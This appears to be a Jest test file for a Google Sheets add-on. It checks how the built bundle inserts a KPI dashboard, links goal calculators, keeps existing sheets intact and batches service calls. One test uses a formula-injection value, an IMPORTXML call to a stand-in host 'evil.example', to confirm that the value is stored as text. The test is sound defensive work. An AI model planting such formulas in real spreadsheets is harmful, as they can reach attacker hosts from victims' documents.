/**
 * Inserting the dashboard as Apps Script runs it: the built dist/server.js in a node:vm with
 * only the fake services, calling the generated top-level entry points.
 */

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { withPlanDefaults } from '../../src/funnel/defaults';
import {
  buildDashboard,
  goalPlanSource,
  kpiA1,
  monthSerial,
  sampleDashboard,
} from '../../src/layout/dashboard';
import { goalCalculatorLayout } from '../../src/layout/goalCalculator';
import { SHEET_FORMAT_VERSION } from '../../src/layout/sheetTag';
import { distDir, loadBundle } from '../../src/preview/bundle';
import type { FakeAppsScript } from '../../src/preview/fake';
import { examplePlan } from '../support/plans';
import { fakeWithLocale } from './support/appsScript';
import { evaluate } from './support/engine';
import { shownErrors } from './support/shownErrors';

function run(entryPoint: string, fake: FakeAppsScript = fakeWithLocale(), ...args: unknown[]) {
  const runtime = loadBundle(fake.globals);
  fake.log.reset();
  const name = runtime.call(entryPoint, ...args) as string;
  // The calls of the insert itself, before the test reads anything back.
  const calls = { document: fake.log.documentCalls, byName: fake.log.countsByName() };
  const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return { fake, name, sheet, runtime, calls };
}

describe('insertKpiDashboardWithSample from the built bundle', () => {
  test('the sheet computes what the layout computes, cell for cell', () => {
    const { name, sheet } = run('insertKpiDashboardWithSample');
    expect(name).toBe('KPI Dashboard');
    const { layout, map } = buildDashboard({ ...sampleDashboard, language: 'en' });
    const expected = evaluate(layout)[layout.name];
    for (const cell of map.kpiCells) {
      expect([cell.a1, sheet.getRange(cell.a1).getValue()]).toEqual([
        cell.a1,
        expected.value(cell.a1),
      ]);
    }
    expect(sheet.getRange(kpiA1(map, 'cac', 0)).getValue()).toBe(4000);
    expect(sheet.getRange(kpiA1(map, 'ltvCac', 0)).getDisplayValue()).toBe('4.8x');
  });

  test('health colours and charts are on the sheet', () => {
    const { sheet } = run('insertKpiDashboardWithSample');
    expect(sheet.getConditionalFormatRules().length).toBeGreaterThan(0);
    expect(sheet.getCharts()).toHaveLength(3);
    // Health (red, green) and the impossible-month flags (amber).
    expect(sheet.getConditionalFormatRules()).toHaveLength(4);
  });

  test('never overwrites an existing sheet: a second insert writes "KPI Dashboard (2)"', () => {
    const fake = fakeWithLocale('en_US', { sheetNames: ['Sheet1', 'KPI Dashboard'] });
    const existing = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('KPI Dashboard');
    existing?.getRange('A1:B2').setValues([
      ['Our own KPIs', 42],
      ['=B1*2', "'keep"],
    ]);
    const before = existing?.getRange('A1:Z60').getFormulas();
    const beforeValues = existing?.getRange('A1:Z60').getValues();
    const { name } = run('insertKpiDashboard', fake);
    expect(name).toBe('KPI Dashboard (2)');
    expect(existing?.getRange('A1:Z60').getFormulas()).toEqual(before);
    expect(existing?.getRange('A1:Z60').getValues()).toEqual(beforeValues);
    expect(existing?.getConditionalFormatRules()).toHaveLength(0);
  });

  test('the spreadsheet locale picks the labels: zh_TW gives Traditional Chinese', () => {
    const { name, sheet } = run('insertKpiDashboard', fakeWithLocale('zh_TW'));
    expect(name).toBe('KPI 儀表板');
    expect(sheet.getRange('A6').getValue()).toBe('月份');
  });

  test('an empty dashboard starts this month and shows no error anywhere', () => {
    const { sheet } = run('insertKpiDashboard');
    const today = new Date();
    expect(sheet.getRange('A7').getValue()).toBe(
      monthSerial(today.getFullYear(), today.getMonth() + 1),
    );
    expect(sheet.getRange('A7:A8').getNumberFormats()).toEqual([['mmm yyyy'], ['mmm yyyy']]);
    expect(shownErrors(sheet)).toEqual([]);
  });
});

describe('the template link', () => {
  test('is the spreadsheet’s /copy URL, built from its id, with no scope beyond the add-on’s two', () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    const id = fake.SpreadsheetApp.getActiveSpreadsheet().getId();
    fake.log.reset();
    expect(runtime.call('getTemplateLink')).toBe(
      `https://docs.google.com/spreadsheets/d/${id}/copy`,
    );
    expect(fake.log.countsByName()).toEqual({
      'SpreadsheetApp.getActiveSpreadsheet': 1,
      'Spreadsheet.getId': 1,
    });
    const manifest = JSON.parse(readFileSync(join(distDir, 'appsscript.json'), 'utf8'));
    expect(manifest.oauthScopes).toEqual([
      'https://www.googleapis.com/auth/spreadsheets.currentonly',
      'https://www.googleapis.com/auth/script.container.ui',
    ]);
  });
});

describe('plan vs actual from the bundle', () => {
  test('with the goal calculator of the last plan: its cells are referenced and computed', () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', examplePlan);
    runtime.call('saveLastPlan', examplePlan);
    const name = runtime.call('insertKpiDashboard') as string;
    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
    const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
    expect(formulas.some((formula) => formula.includes("'Goal Calculator'!"))).toBe(true);
    const shown = sheet?.getDataRange().getDisplayValues().flat() ?? [];
    expect(shown).toContain('Leads plan');
    expect(sheet && shownErrors(sheet)).toEqual([]);
  });

  test('without one: no reference, a note instead', () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('saveLastPlan', examplePlan);
    const name = runtime.call('insertKpiDashboard') as string;
    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
    const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
    expect(formulas.filter((formula) => formula.includes('!'))).toEqual([]);
    expect(sheet?.getDataRange().getValues().flat()).toContain(
      'Plan vs actual: insert a goal calculator, then a new dashboard, to compare each month with the plan.',
    );
  });

  test('the goal sheet’s own plan shapes the link, not the last plan saved', () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', examplePlan);
    // The last plan has one stage fewer than the sheet that is there: the sheet's tag wins.
    runtime.call('saveLastPlan', {
      ...examplePlan,
      stages: [examplePlan.stages[0], ...examplePlan.stages.slice(2)],
    });
    const name = runtime.call('insertKpiDashboard') as string;
    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
    expect(sheet?.getDataRange().getDisplayValues().flat()).toContain('Leads plan');
    expect(sheet && shownErrors(sheet)).toEqual([]);
  });

  test('"Goal Calculator (2)" is found when the plain name holds something else', () => {
    // Someone's own sheet already has the name: the goal calculator was written as "(2)".
    const fake = fakeWithLocale('en_US', { sheetNames: ['Sheet1', 'Goal Calculator'] });
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', examplePlan);
    const name = runtime.call('insertKpiDashboard') as string;
    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
    const formulas = sheet?.getDataRange().getFormulas().flat() ?? [];
    expect(formulas.some((formula) => formula.includes("'Goal Calculator (2)'!"))).toBe(true);
    expect(formulas.some((formula) => formula.includes("'Goal Calculator'!"))).toBe(false);
  });

  test('a renamed goal calculator still feeds its dashboard, found by its tag', () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', examplePlan);
    const spreadsheet = fake.SpreadsheetApp.getActiveSpreadsheet();
    spreadsheet.getSheetByName('Goal Calculator')?.setName('Plan FY27');
    const name = runtime.call('insertKpiDashboard', { monthCount: 12 }) as string;
    const sheet = spreadsheet.getSheetByName(name);
    if (!sheet) throw new Error('no dashboard');
    const formulas = sheet.getDataRange().getFormulas().flat();
    expect(formulas.some((formula) => formula.includes("'Plan FY27'!"))).toBe(true);
    // The dashboard computes what the layout linked to that sheet computes (HyperFormula).
    const plan = { ...examplePlan };
    const goalLayout = goalCalculatorLayout(withPlanDefaults(plan, new Date()), 'Plan FY27');
    const today = new Date();
    const { layout, map } = buildDashboard({
      firstMonth: { year: today.getFullYear(), month: today.getMonth() + 1 },
      monthCount: 12,
      language: 'en',
      goal: goalPlanSource(withPlanDefaults(plan, new Date()), 'Plan FY27'),
    });
    const expected = evaluate(goalLayout, layout)[layout.name];
    const block = map.planVsActual;
    if (!block) throw new Error('no plan vs actual');
    for (const stage of block.stages) {
      expect(sheet.getRange(`B${stage.paceRow}`).getValue()).toBe(
        expected.value(`B${stage.paceRow}`),
      );
      expect(sheet.getRange(`B${stage.paceRow}`).getValue()).toBeGreaterThan(0);
    }
    expect(shownErrors(sheet)).toEqual([]);
  });

  test('two goal calculators: the one a person picks is followed, kept in the tag and for the next dashboard', () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', examplePlan);
    runtime.call('buildGoalCalculator', { ...examplePlan, revenueTarget: 2_000_000 });
    const spreadsheet = fake.SpreadsheetApp.getActiveSpreadsheet();
    const references = (sheetName: string) => {
      const formulas = spreadsheet.getSheetByName(sheetName)?.getDataRange().getFormulas().flat();
      return ['Goal Calculator', 'Goal Calculator (2)'].filter((goal) =>
        (formulas ?? []).some((formula) => formula.includes(`'${goal}'!`)),
      );
    };
    const choices = runtime.call('getDashboardGoalChoices') as {
      sheetId: number;
      name: string;
      preselected: boolean;
    }[];
    expect(choices.map((choice) => choice.name)).toEqual([
      'Goal Calculator',
      'Goal Calculator (2)',
    ]);
    const first = choices[0];
    const picked = runtime.call('insertKpiDashboard', { goalSheetId: first.sheetId }) as string;
    expect(references(picked)).toEqual(['Goal Calculator']);
    const tag = JSON.parse(
      spreadsheet
        .getSheetByName(picked)
        ?.createDeveloperMetadataFinder()
        .withKey('funnelmath.dashboard')
        .find()[0]
        .getValue() ?? '{}',
    );
    expect(tag.formatVersion).toBe(SHEET_FORMAT_VERSION);
    expect(tag.source.goal).toEqual({ sheetId: first.sheetId, chosen: true });
    expect(
      (runtime.call('getDashboardGoalChoices') as { preselected: boolean }[]).map(
        (choice) => choice.preselected,
      ),
    ).toEqual([true, false]);
    // Renamed afterwards, the pick still holds for the next dashboard.
    spreadsheet.getSheetByName('Goal Calculator')?.setName('Board plan');
    const next = runtime.call('insertKpiDashboard') as string;
    const nextFormulas = spreadsheet.getSheetByName(next)?.getDataRange().getFormulas().flat();
    expect((nextFormulas ?? []).some((formula) => formula.includes("'Board plan'!"))).toBe(true);
    expect(() => runtime.call('insertKpiDashboard', { goalSheetId: 987654 })).toThrow(
      'goalSheetId is 987654; no goal calculator of this spreadsheet has that id (there are: Board plan, Goal Calculator (2))',
    );
  });

  test('a hostile stage name reaches the dashboard as text, never as a formula', () => {
    const hostile = '=IMPORTXML("http://evil.example/", "//a")';
    const plan = { ...examplePlan, stages: [...examplePlan.stages.slice(0, 4), { name: hostile }] };
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', plan);
    runtime.call('saveLastPlan', plan);
    const name = runtime.call('insertKpiDashboard') as string;
    const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name);
    expect(sheet?.getDataRange().getValues().flat()).toContain(`${hostile} plan`);
  });
});

describe('batching: a constant number of service calls, whatever the number of months', () => {
  const callsFor = (entryPoint: string, months: number, fake = fakeWithLocale()) =>
    run(entryPoint, fake, { monthCount: months }).calls;
  const withGoal = () => {
    const fake = fakeWithLocale();
    const runtime = loadBundle(fake.globals);
    runtime.call('buildGoalCalculator', examplePlan);
    return fake;
  };

  test('with sample data: the same calls for 12 and 36 months, at most 25', () => {
    const twelve = callsFor('insertKpiDashboardWithSample', 12);
    expect(callsFor('insertKpiDashboardWithSample', 36)).toEqual(twelve);
    expect(twelve.byName['Range.setValues']).toBe(1);
    expect(twelve.document).toBeLessThanOrEqual(25);
  });

  test('empty: one finder query more; linked: five more to read its goal calculator’s tag; tagged, and at most 25', () => {
    const sample = callsFor('insertKpiDashboardWithSample', 12);
    expect(sample.byName['Sheet.addDeveloperMetadata']).toBe(1);
    const empty = callsFor('insertKpiDashboard', 12);
    expect(callsFor('insertKpiDashboard', 36)).toEqual(empty);
    expect(empty.document).toBe(sample.document + 1);
    // 20 since the writer fetches the sheet's range in the same getRangeList as its charts'.
    expect(empty.document).toBe(20);
    const linked = callsFor('insertKpiDashboard', 12, withGoal());
    expect(callsFor('insertKpiDashboard', 36, withGoal())).toEqual(linked);
    // The tag's location, its sheet, its value (the plan), the sheet's name and id; no
    // locale (the plan has a language), no last plan, no read of the goal sheet's cells.
    expect(linked.document).toBe(empty.document + 5 - 1);
    expect(linked.byName['Sheet.addDeveloperMetadata']).toBe(1);
    expect(linked.document).toBeLessThanOrEqual(25);
  });
});
